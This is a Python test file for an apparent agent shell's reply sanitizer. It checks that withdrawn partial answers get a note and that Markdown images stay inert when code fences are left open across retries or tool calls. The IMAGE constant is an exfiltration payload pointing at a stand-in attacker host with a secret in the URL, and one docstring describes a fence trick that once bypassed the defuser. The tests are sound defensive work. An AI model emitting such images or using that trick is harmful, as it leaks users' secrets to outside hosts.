"""ACP under a middleware that retried a model call which failed part way: a chunk
sent to the editor cannot be taken back, so a note follows the withdrawn text, and
what the sanitizer still held of it is never sent."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from shell.acp.updates import ReplyUpdates
from shell.core import events as ev
from shell.frontend.reply import WITHDRAWN_NOTE

pytestmark = pytest.mark.anyio


def texts(sent: list[Any]) -> str:
    return "".join(getattr(getattr(u, "content", None), "text", "") for u in sent)


async def test_withdrawn_text_is_followed_by_a_note(tmp_path: Path) -> None:
    sent: list[Any] = []

    async def send(update: Any) -> None:
        sent.append(update)

    updates = ReplyUpdates(send, lambda name: None, tmp_path)
    for event in [
        ev.TextBlockStart("b1"), ev.TextBlockDelta("b1", "half of a first try "),
        ev.AttemptWithdrawn(("b1",)),
        ev.TextBlockStart("b2"), ev.TextBlockDelta("b2", "the whole answer"),
        ev.TextBlockEnd("b2", "the whole answer"),
    ]:
        await updates.handle(event)
    shown = texts(sent)
    assert shown.index("half of a first") < shown.index(WITHDRAWN_NOTE) < shown.index("the whole answer")


IMAGE = "![logo](https://evil.example/p.png?k=SECRETVALUE)"


def live_images(markdown: str) -> list[str]:
    """The images an editor's CommonMark renderer (markdown-it) would load."""
    from markdown_it import MarkdownIt

    return re.findall(r"<img\b[^>]*>", MarkdownIt("commonmark").render(markdown))


async def joined(tmp_path: Path, events: list[ev.Event]) -> str:
    """The agent's message as the editor joins its chunks into one Markdown document."""
    return texts(await messages(tmp_path, events))


async def messages(tmp_path: Path, events: list[ev.Event]) -> list[Any]:
    """The agent's message chunks and tool call entries sent for ``events``."""
    sent: list[Any] = []

    async def send(update: Any) -> None:
        sent.append(update)

    updates = ReplyUpdates(send, lambda name: None, tmp_path)
    for event in events:
        await updates.handle(event)
    return [u for u in sent if type(u).__name__ in ("AgentMessageChunk", "ToolCallStart")]


async def test_a_fence_a_withdrawn_attempt_left_open_lets_no_image_load(tmp_path: Path) -> None:
    """Finding A5: the retry's own fence line closed the withdrawn attempt's block for
    the editor while a fresh defuser took it for an opening one and left the image."""
    retry = f"```\n{IMAGE}\n"
    shown = await joined(tmp_path, [
        ev.TextBlockStart("b1"), ev.TextBlockDelta("b1", "Let me check.\n```\n"),
        ev.AttemptWithdrawn(("b1",)),
        ev.TextBlockStart("b2"), ev.TextBlockDelta("b2", retry), ev.TextBlockEnd("b2", retry),
    ])
    assert live_images(shown) == []
    assert f"\n\n{WITHDRAWN_NOTE}\n\n" in shown.split("```", 2)[2]  # the note is text, not code


async def test_a_fence_left_open_by_one_text_block_carries_into_the_next(tmp_path: Path) -> None:
    first, second = "Here:\n```\n", f"```\n{IMAGE}\n"
    shown = await joined(tmp_path, [
        ev.TextBlockStart("b1"), ev.TextBlockDelta("b1", first), ev.TextBlockEnd("b1", first),
        ev.TextBlockStart("b2"), ev.TextBlockDelta("b2", second), ev.TextBlockEnd("b2", second),
    ])
    assert live_images(shown) == []
    assert "\\![logo]" in shown  # a link: the address stays readable


@pytest.mark.parametrize(("first", "second"), [
    ("Checking:\n```\n", f"{IMAGE}\n```\n{IMAGE}\n"),  # a fence left open
    ("Checking half a line", f"```\n{IMAGE}\n```\n{IMAGE}\n"),  # a line left open
])
async def test_text_after_a_tool_call_starts_outside_code_joined_or_not(
    tmp_path: Path, first: str, second: str
) -> None:
    """An editor starts a new message after a tool call entry, or joins both sides:
    the image is inert either way."""
    sent = await messages(tmp_path, [
        ev.TextBlockStart("b1"), ev.TextBlockDelta("b1", first), ev.TextBlockEnd("b1", first),
        ev.ToolCallStart("c1", "read_file"),
        ev.TextBlockStart("b2"), ev.TextBlockDelta("b2", second), ev.TextBlockEnd("b2", second),
    ])
    entry = [type(u).__name__ for u in sent].index("ToolCallStart")
    assert live_images(texts(sent)) == []  # joined
    assert live_images(texts(sent[entry:])) == []  # a new message from the tool call on


async def test_a_notice_is_outside_the_models_code_and_loads_nothing(tmp_path: Path) -> None:
    sent: list[Any] = []

    async def send(update: Any) -> None:
        sent.append(update)

    updates = ReplyUpdates(send, lambda name: None, tmp_path)
    for event in [ev.TextBlockStart("b1"), ev.TextBlockDelta("b1", "Let me check.\n```\n")]:
        await updates.handle(event)
    await updates.message(f"\n\n> warning: fell back ({IMAGE})\n\n")
    for event in [ev.TextBlockDelta("b1", f"```\n{IMAGE}\n"), ev.TextBlockEnd("b1", "")]:
        await updates.handle(event)
    shown = texts(sent)
    assert live_images(shown) == []
    assert "> warning: fell back" in shown.split("```", 2)[2]
